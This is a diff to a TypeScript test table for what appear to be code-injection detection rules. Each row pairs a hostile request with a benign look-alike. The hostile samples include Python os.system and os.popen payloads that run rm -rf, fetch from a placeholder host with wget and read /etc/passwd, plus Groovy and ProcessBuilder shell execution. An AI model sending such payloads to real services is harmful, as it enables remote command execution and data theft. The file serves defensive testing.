@@ -41,6 +41,9 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001320, "__import__('os').popen", q('cmd=__import__(%27os%27).popen(%27id%27).read()'), json('{"body":"What does `__import__(\'os\')` do and why do linters flag it?"}')],
   [9001320, 'subprocess with shell=True', q('cmd=import%20subprocess%3Bsubprocess.check_output(%27id%27%2Cshell%3DTrue)'), json('{"content":"import subprocess\\nout = subprocess.check_output([\'uname\', \'-a\'])"}')],
   [9001320, 'os.system of a command', form('code=os.system(%27wget+http%3A%2F%2Fx.test%2Fa%27)'), json('{"body":"`os.system(\'cls\' if os.name == \'nt\' else \'clear\')` does not clear the console"}')],
+  // Rev 3 (2026-12-06u): the command is a whole literal; a program building it from a variable is code under discussion.
+  [9001320, 'os.system of a literal command in JSON', json('{"code":"import os; os.system(\\"rm -rf /tmp/x; id\\")"}'), json('{"diff_hunk":"@@ -1,2 +1,2 @@\\n-    os.system(\'rm -rf \' + tmpdir)\\n+    shutil.rmtree(tmpdir)"}')],
+  [9001320, 'os.popen of a literal command, percent-encoded', q('x=os.popen(%22cat%20%2Fetc%2Fpasswd%22).read()'), q('q=os.popen(%22ls+%22+%2B+path)')],
   [9001321, 'a Groovy string .execute()', form('script=println+%22id%22.execute().text'), form('code=cur.execute(%22SELECT+1%22)')],
   [9001321, 'a Groovy list .execute()', form('script=def+p+%3D+%5B%22sh%22%2C%22-c%22%2C%22id%22%5D.execute()'), json('{"body":"Runtime.getRuntime().exec(\\"notepad.exe\\") works on my machine"}')],
   [9001321, 'a ProcessBuilder of sh -c', form('script=new+ProcessBuilder(%22sh%22%2C%22-c%22%2C%22id%22).start()'), form('script=new+ProcessBuilder(%22git%22%2C%22log%22).start()')],
